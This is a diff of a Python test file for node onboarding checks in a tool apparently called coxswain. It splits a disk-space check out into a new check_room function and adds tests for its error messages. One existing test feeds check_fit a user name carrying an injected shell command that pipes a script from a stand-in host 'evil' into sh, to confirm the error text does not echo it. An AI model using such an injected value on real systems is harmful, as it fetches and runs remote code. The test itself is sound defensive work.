@@ -18,7 +18,7 @@ from hypothesis import strategies as st
 from coxswain.errors import CoxswainError, InvalidInput, NodeMisbehaved, NodeRefused
 from coxswain.onboarding.binary import check_binary, display_version, is_newer, normalise_version
 from coxswain.onboarding.candidate import candidate_version
-from coxswain.onboarding.facts import OURS, SCRIPT, check_fit, has_no_uplink, read_absent, read_facts
+from coxswain.onboarding.facts import OURS, SCRIPT, check_fit, check_room, has_no_uplink, read_absent, read_facts
 from coxswain.onboarding.rollout import plan_batches
 from coxswain.onboarding.service import last_words
 from coxswain.onboarding.sources import Source, Sources, source_from
@@ -170,11 +170,13 @@ def test_facts_say_what_is_missing():
     for change, says in (
         ({"sudo": "no", "user": "ubuntu"}, "ubuntu may not become root"),
         ({"systemd": ""}, "no systemd"),
-        ({"free_mb": "12"}, "12 MB left"),
     ):
         with pytest.raises(NodeRefused, match=says):
             check_fit(good | change)
-    check_fit(good | {"free_mb": "\N{SUPERSCRIPT TWO}"})
+    check_fit(good | {"free_mb": "12"})
+    with pytest.raises(NodeRefused, match="198\\.51\\.100\\.7: the host has 12 MB left"):
+        check_room("198.51.100.7", good | {"free_mb": "12"})
+    check_room("198.51.100.7", good | {"free_mb": "\N{SUPERSCRIPT TWO}"})
     with pytest.raises(NodeRefused) as caught:
         check_fit(good | {"sudo": "no", "user": "x'; curl http://evil/ | sh; '"})
     assert "evil" not in f"{caught.value} {caught.value.remedy}", "that is for a shell"
